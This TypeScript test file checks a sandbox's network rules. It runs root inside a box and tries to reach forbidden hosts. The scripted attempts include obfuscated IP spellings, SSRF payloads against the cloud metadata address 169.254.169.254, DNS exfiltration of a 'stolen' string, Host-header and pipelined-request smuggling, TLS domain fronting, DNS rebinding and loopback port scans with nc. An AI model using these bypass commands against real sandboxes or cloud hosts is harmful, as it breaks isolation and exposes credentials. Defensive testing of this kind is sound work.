/**
 * What root in a box tries to get to where its rules do not let it. Everything is tried from a box without rules too,
 * where it has to succeed: so it is the rules that stop it.
 */
import assert from 'node:assert/strict';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { createServer as createWebServer } from 'node:http';
import { createServer, isIPv6, type Server } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { createSecureContext, createServer as createTlsServer } from 'node:tls';
import type { LiteBox } from '../../src/index.ts';
import { GATEWAY, HOST_ALIAS, HOST_ALIAS_NAME } from '../../src/network/addresses.ts';
import { NameServer } from '../network/name-server.ts';
import { inNamespace, serverKeys, servers } from '../network/namespace.ts';
import { RealServers } from '../network/real-servers.ts';
import { compileGuest } from './compile.ts';
import { folders, forEachEngine, hasIpv6, sharedBox, shell } from './fixture.ts';
import { copyProgram } from './host-programs.ts';

/** Ports of the host's loopback that a scan would find. */
const PORTS = [22, 80, 5432, 6379, 8080];
const ALLOWED = ['api.example:80', 'api.example:443', 'nginx.example', '*.rebind.example:80'];

interface Attempt {
  readonly what: string;
  readonly script: string;
  /** What it reaches where there are no rules, and must not reach where there are. */
  readonly reaches: readonly string[];
  /** What else where the guest's kernel has IPv6. */
  readonly reachesBySix?: readonly string[];
}

/** Bytes for a shell to send, without an end of its own. */
function send(bytes: string, host: string, port: number): string {
  const encoded = Buffer.from(bytes, 'latin1').toString('base64');
  return `(echo ${encoded} | base64 -d; sleep 1) | nc -w 2 ${host} ${port}`;
}

if (inNamespace(import.meta.filename)) {
  const real = new RealServers();
  await real.nginx(
    { port: 80, host: servers.three },
    `server { listen ${servers.three}:80 default_server; server_name first.example; return 200; }`,
  );
  const names = new NameServer({
    'api.example': [servers.one],
    'other.example': [servers.two],
    'nginx.example': [servers.three],
    'ten.rebind.example': [servers.private],
    'mapped.rebind.example': [`::ffff:${servers.private}`],
    'alias.rebind.example': [HOST_ALIAS.v4],
    'loopback.rebind.example': ['127.0.0.1'],
    'metadata.rebind.example': [servers.metadata],
  });
  const running: Server[] = [];
  const udp: Socket[] = [];
  const reached = new Set<string>();

  const attempts: readonly Attempt[] = [
    {
      what: 'an address that it was not given',
      script: `curl -sm 2 http://${servers.two}/`,
      reaches: [`tcp ${servers.two}:80`],
    },
    ...['3405803796', '0xcb007114', '0313.0.0161.024', '203.0.28948'].map((spelling) => ({
      what: `the address ${spelling}`,
      script: `curl -sm 2 http://${spelling}/`,
      reaches: [`tcp ${servers.two}:80`],
    })),
    {
      what: 'an IPv4 address in the form of IPv6',
      script: `curl -sm 2 'http://[::ffff:203.0.113.20]/'`,
      reaches: [],
      reachesBySix: [`tcp ${servers.two}:80`],
    },
    {
      what: 'an address of IPv6',
      script: `curl -sm 2 'http://[${servers.v6}]/'`,
      reaches: [],
      reachesBySix: [`tcp ${servers.v6}:80`],
    },
    {
      what: 'a private address',
      script: `curl -sm 2 http://${servers.private}/`,
      reaches: [`tcp ${servers.private}:80`],
    },
    {
      what: "ports of the host's loopback, by its alias",
      script: PORTS.map((port) => `nc -w 2 ${HOST_ALIAS.v4} ${port} </dev/null`).join('\n'),
      reaches: PORTS.map((port) => `tcp 127.0.0.1:${port}`),
    },
    {
      what: "ports of the host's loopback, by its name and by IPv6",
      script: `nc -w 2 ${HOST_ALIAS_NAME} 22 </dev/null; curl -sm 2 'http://[${HOST_ALIAS.v6}]/'`,
      reaches: ['tcp 127.0.0.1:22'],
      reachesBySix: ['tcp ::1:80'],
    },
    {
      what: 'a name that is not in its rules',
      script: 'curl -sm 2 http://other.example/',
      reaches: ['dns other.example', `tcp ${servers.two}:80`],
    },
    {
      what: 'a name server of its choice',
      script: `nslookup c3RvbGVu.other.example ${servers.names}`,
      reaches: ['dns c3rvbgvu.other.example'],
    },
    {
      what: 'a name server of its choice, by TCP and in no language of DNS',
      script: `echo stolen | nc -w 1 ${servers.two} 53; network datagram ${servers.two} 53 9`,
      reaches: [`tcp ${servers.two}:53`, `udp ${servers.two}:53`],
    },
    {
      what: 'a name server by HTTPS',
      script: `curl -skm 2 -H 'Content-Type: application/dns-message' --data x https://${servers.two}/dns-query`,
      reaches: [`tcp ${servers.two}:443`],
    },
    {
      what: 'another port of an allowed host',
      script: `nslookup api.example; nc -w 2 ${servers.one} 8080 </dev/null`,
      reaches: [`tcp ${servers.one}:8080`],
    },
    {
      what: 'an allowed host by UDP, of which nobody knows for whom it is',
      script: `nslookup api.example; network datagram ${servers.one} 443 9`,
      reaches: [`udp ${servers.one}:443`],
    },
    {
      what: 'another host behind an allowed one, by its Host',
      script: `curl -sm 2 -H 'Host: other.example' http://api.example/`,
      reaches: ['http other.example /'],
    },
    {
      what: 'another host behind an allowed one, by the target',
      script: 'curl -sm 2 --request-target http://other.example/ http://api.example/',
      reaches: ['http api.example http://other.example/'],
    },
    {
      what: 'another host behind an allowed one, in a second request',
      script: send(
        'GET /1 HTTP/1.1\r\nHost: api.example\r\n\r\nGET /2 HTTP/1.1\r\nHost: other.example\r\n\r\n',
        'api.example',
        80,
      ),
      reaches: ['http other.example /2'],
    },
    {
      what: 'another host behind an allowed one, in a request with an odd letter',
      script: send('GET /\xff HTTP/1.1\r\nHost: other.example\r\n\r\n', 'nginx.example', 80),
      reaches: ['nginx other.example'],
    },
    {
      what: 'the first of several hosts, in a request of HTTP/0.9',
      script: send('GET /\r\n', 'nginx.example', 80),
      reaches: ['nginx first.example'],
    },
    {
      what: 'another host behind an allowed one, by an empty line first',
      script: send('\r\n\r\nGET /3 HTTP/1.1\r\nHost: other.example\r\n\r\n', 'api.example', 80),
      reaches: ['http other.example /3'],
    },
    {
      what: 'another host by TLS to an allowed one',
      script: 'curl -skm 2 --connect-to other.example:443:api.example:443 https://other.example/',
      reaches: ['tls other.example'],
    },
    {
      what: 'a host by TLS that names an address, or nobody',
      script: [
        'nslookup api.example',
        ...[`-servername ${servers.one}`, '-noservername'].map(
          (name) =>
            `echo | timeout 3 openssl s_client -connect ${servers.one}:443 ${name} >/dev/null 2>&1`,
        ),
      ].join('\n'),
      reaches: [`tls ${servers.one}`, 'tls nobody'],
    },
    {
      what: 'another host by a redirect of an allowed one',
      script: 'curl -sLm 2 http://api.example/redirect',
      reaches: [`tcp ${servers.two}:80`],
    },
    ...[
      ['ten', `tcp ${servers.private}:80`],
      ['mapped', `tcp ${servers.private}:80`],
      ['alias', 'tcp 127.0.0.1:80'],
    ].map(([name = '', target = '']) => ({
      what: `a private address by an allowed name (${name})`,
      script: `curl -sm 2 http://${name}.rebind.example/`,
      reaches: [target],
    })),
  ];

  /** What no box reaches, whatever its rules; servers are there. */
  const never = [
    ...['169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518'],
    ...['[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]', '[fe80::1]'],
    ...['[2002:a9fe:a9fe::1]', `[${servers.metadata6}]`, 'metadata.rebind.example'],
    ...[
      'loopback.rebind.example',
      GATEWAY.v4,
      '192.168.127.3',
      '192.168.127.255',
      `[${GATEWAY.v6}]`,
    ],
    ...['0.0.0.0', '[::]', '[::ffff:127.0.0.1]', '[::ffff:0:203.0.113.20]', '[::203.0.113.20]'],
  ];

  before(async () => {
    await names.listen();
    const listening = (server: Server, port: number, address: string) => {
      const shown = `tcp ${address}:${port}`;
      server.on('connection', (socket) => {
        reached.add(shown);
        socket.on('error', () => undefined);
      });
      running.push(server.listen(port, address));
    };
    const raw = (port: number, address: string) =>
      listening(
        createServer((socket) => socket.end('you are in\n')),
        port,
        address,
      );
    const web = (address: string) =>
      listening(
        createWebServer(({ headers, url }, response) => {
          reached.add(`http ${headers.host} ${url}`);
          if (url === '/redirect') response.setHeader('Location', 'http://other.example/');
          response.writeHead(url === '/redirect' ? 302 : 200).end('you are in\n');
        }),
        80,
        address,
      );
    const secure = (address: string) => {
      const context = createSecureContext(serverKeys());
      const SNICallback = (name: string, done: (error: null, found: typeof context) => void) => {
        reached.add(`tls ${name}`);
        done(null, context);
      };
      const server = createTlsServer({ ...serverKeys(), SNICallback }, (socket) => {
        if (!socket.servername) reached.add('tls nobody');
        socket.on('error', () => undefined);
        socket.end('HTTP/1.0 200 OK\r\n\r\nyou are in\n');
      });
      listening(server, 443, address);
    };
    for (const port of PORTS) raw(port, '127.0.0.1');
    for (const address of ['::1', servers.private, servers.metadata, servers.metadata6]) {
      raw(80, address);
    }
    for (const address of [servers.one, servers.two, servers.v6]) {
      web(address);
      secure(address);
    }
    raw(8080, servers.one);
    raw(53, servers.two);
    for (const [address, port] of [
      ['127.0.0.1', 53],
      [servers.two, 53],
      [servers.one, 443],
    ] as const) {
      const socket = createSocket('udp4');
      socket.on('message', () => reached.add(`udp ${address}:${port}`));
      socket.bind(port, address);
      udp.push(socket);
      await once(socket, 'listening');
    }
    await Promise.all(running.map((server) => server.listening || once(server, 'listening')));
  });
  after(async () => {
    for (const server of running) server.close();
    for (const socket of udp) socket.close();
    await real[Symbol.asyncDispose]();
    await names[Symbol.asyncDispose]();
  });

  /** What a script reaches, names that it had looked up among it. */
  const tried = async (box: LiteBox, script: string): Promise<string[]> => {
    reached.clear();
    const before = names.asked.length;
    const logged = real.read('web').length;
    await shell(box, script);
    const lines = real.read('web').slice(logged).split('\n').slice(0, -1);
    return [
      ...reached,
      ...names.asked.slice(before).map((name) => `dns ${name}`),
      ...lines.map((line) => `nginx ${line.split(' ')[0]}`),
    ];
  };
  const prepared = async (box: LiteBox) => {
    // Where refusals are noted is made with the first one.
    await shell(box, 'wget -O- http://169.254.1.1/');
    await copyProgram(box, '/usr/bin/curl');
    await copyProgram(box, '/usr/bin/openssl');
    await box.copyIn(compileGuest('network', folders.homes), '/bin/');
  };

  forEachEngine((engine) => {
    describe('root in a box without rules', () => {
      const box = sharedBox(engine);
      before(() => prepared(box()));

      for (const { what, script, reaches, reachesBySix = [] } of attempts) {
        it(`reaches ${what}`, async () => {
          const found = await tried(box(), script);
          for (const each of reaches) assert.ok(found.includes(each), `${each}: ${found.join()}`);
          const six = await hasIpv6(engine);
          for (const each of reachesBySix) {
            assert.equal(found.includes(each), six, `${each}: ${found.join()}`);
          }
        });
      }

      it('reaches no metadata service and no loopback address, in any spelling', async () => {
        const script = never.map((host) => `curl -sm 2 'http://${host}/' &`);
        const found = await tried(box(), `${script.join('\n')}\nwait`);
        assert.deepEqual(
          found.filter((each) => !each.startsWith('dns ')),
          [],
        );
      });
    });

    describe('root in a box with rules for names', () => {
      const box = sharedBox(engine, { network: { mode: 'enabled', allowNet: ALLOWED } });
      before(() => prepared(box()));

      for (const { what, script, reaches, reachesBySix = [] } of attempts) {
        it(`does not reach ${what}`, async () => {
          const found = await tried(box(), script);
          for (const each of [...reaches, ...reachesBySix]) {
            assert.ok(!found.includes(each), `${each}: ${found.join()}`);
          }
          // What it may reach is its name server and the allowed host.
          const allowed =
            /^dns (api|nginx|\w+\.rebind)\.example$|^tcp 203\.0\.113\.10:(80|443)$|^http api\.example \/(1|redirect)$/;
          assert.deepEqual(
            found.filter((each) => !allowed.test(each)),
            [],
          );
        });
      }

      it('reaches no metadata service and no loopback address, in any spelling', async () => {
        const script = never.map((host) => `curl -sm 2 'http://${host}/' &`);
        const found = await tried(box(), `${script.join('\n')}\nwait`);
        assert.deepEqual(
          found.filter((each) => !each.startsWith('dns ')),
          [],
        );
      });

      it('finds no service of the host on any address of its link', async () => {
        const hosts = ['1', '3', '253', '254', '255'].map((last) => `192.168.127.${last}`);
        const scan = [...hosts, GATEWAY.v6, HOST_ALIAS.v6].flatMap((address) =>
          PORTS.map(
            (port) => `nc -w 2 ${isIPv6(address) ? `[${address}]` : address} ${port} </dev/null &`,
          ),
        );
        assert.deepEqual(await tried(box(), `${scan.join('\n')}\nwait`), []);
      });

      it('gets no question out to a server of its choice', async () => {
        const targets = [servers.two, servers.names, HOST_ALIAS.v4, '127.0.0.1'];
        const script = targets.map((address) => `nslookup secret.other.example ${address} &`);
        assert.deepEqual(await tried(box(), `${script.join('\n')}\nwait`), []);
      });

      it('still reaches what it may, in every spelling of its name', async () => {
        const found = await tried(
          box(),
          'curl -sm 5 http://API.example./; curl -skm 5 https://api.EXAMPLE/',
        );
        assert.ok(found.includes('tls api.example'), found.join());
        assert.ok(
          found.some((each) => /^http api\.example\.? \/$/i.test(each)),
          found.join(),
        );
        const dotted = `echo | timeout 5 openssl s_client -connect api.example:443 -servername API.example.`;
        const named = await tried(box(), dotted);
        assert.ok(
          named.some((each) => each.toLowerCase() === 'tls api.example.'),
          named.join(),
        );
      });
    });
  });
}
